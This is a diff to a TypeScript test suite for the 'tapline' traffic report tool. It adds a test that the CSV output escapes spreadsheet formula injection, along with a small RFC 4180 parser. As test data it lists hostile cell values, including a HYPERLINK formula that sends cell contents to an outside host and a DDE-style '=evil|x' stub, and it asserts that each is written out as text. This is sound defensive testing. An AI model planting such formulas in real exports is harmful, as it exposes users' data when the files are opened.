@@ -125,6 +125,57 @@ describe('tapline report', () => {
     assert.match(lines[1]!, /^\/videos\/:id,shop\.test,20,20,/);
   });
 
+  it('--csv: a captured route or host a spreadsheet would run as a formula is written as text', async () => {
+    // OWASP "CSV Injection": a cell starting with = + - @, a tab or a CR (or a full-width =+-@) is a formula
+    // in Excel/LibreOffice. The sender chooses the request target and the Host header.
+    const hostile: [string, string][] = [
+      ['=HYPERLINK("http://x/"&A1)', 'shop.test'],
+      ['+1', '@SUM(1)'],
+      ['-2', '-h'],
+      ['@cmd', '=evil|x'],
+      ['\t=tab', 'shop.test'],
+      ['\r=cr', 'shop.test'],
+      ['\uFF1D1+1', 'shop.test'],
+      ['/a;=1+1', 'shop.test'],
+      ['/plain', 'shop.test'],
+    ];
+    const file = join(dir, 'formulas.gor');
+    const messages = hostile.flatMap(([target, host], n) =>
+      exchange(1000 + n, target, 10 + n, 5).map((m, i) =>
+        i === 0 ? { ...m, data: Buffer.from(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`) } : m,
+      ),
+    );
+    writeGor(file, messages);
+    const r = await runTapline(['report', file, '--csv']);
+    assert.equal(r.code, 0, r.stderr);
+    const rows = parseCsv(r.stdout.toString('utf8'));
+    const cells = new Map(rows.slice(1).map((row) => [row[0]!, row[1]!]));
+    const expect: [string, string][] = [
+      [`'=HYPERLINK("http://x/"&A1)`, 'shop.test'],
+      ["'+1", "'@SUM(1)"],
+      ["'-2", "'-h"],
+      ["'@cmd", "'=evil|x"],
+      ["'\t=tab", 'shop.test'],
+      ["'\r=cr", 'shop.test'],
+      ["'\uFF1D1+1", 'shop.test'],
+      ['/a;=1+1', 'shop.test'],
+      ['/plain', 'shop.test'],
+    ];
+    for (const [route, host] of expect) assert.equal(cells.get(route), host, `${JSON.stringify(route)} in ${r.stdout}`);
+    // Every cell is one cell: no row has more columns than the header, also when split at ';' outside quotes.
+    for (const row of rows) assert.equal(row.length, rows[0]!.length);
+    assert.match(r.stdout.toString(), /^"\/a;=1\+1",/m);
+    // Numbers stay numbers; --json keeps the text as captured.
+    const json = JSON.parse((await runTapline(['report', file, '--json'])).stdout.toString());
+    assert.ok(json.routes.some((x: { route: string; host: string }) => x.route === '@cmd' && x.host === '=evil|x'));
+    const cmp = await runTapline(['report', file, '--compare', current, '--csv']);
+    assert.equal(cmp.code, 0, cmp.stderr);
+    const changed = parseCsv(cmp.stdout.toString('utf8'));
+    assert.ok(changed.some((row) => row[0] === "'@cmd" && row[3] === ''));
+    assert.ok(changed.some((row) => row[0] === '/videos/:id' && Number(row[3]) === -1));
+    assert.ok(!changed.some((row) => /^[=+\-@\t\r]/.test(row[0]!)));
+  });
+
   it('--compare: per-route change in bytes and latency', async () => {
     const r = await runTapline(['report', current, '--compare', baseline]);
     assert.equal(r.code, 0, r.stderr);
@@ -410,3 +461,37 @@ describe('report of a capture without an exchange', () => {
     assert.match(r.stdout.toString(), /^Status mix: no exchange$/m);
   });
 });
+
+/** RFC 4180: rows of cells; a quoted cell may hold commas, quotes (doubled) and line ends. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    let cell = '';
+    if (text[i] === '"') {
+      i++;
+      for (;;) {
+        const q = text.indexOf('"', i);
+        assert.ok(q >= 0, 'a quoted cell ends');
+        cell += text.slice(i, q);
+        i = q + 1;
+        if (text[i] !== '"') break;
+        cell += '"';
+        i++;
+      }
+    } else {
+      const end = text.slice(i).search(/[,\n]/);
+      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
+      i += cell.length;
+    }
+    row.push(cell);
+    if (text[i] === ',') i++;
+    else {
+      rows.push(row);
+      row = [];
+      i++;
+    }
+  }
+  return rows;
+}
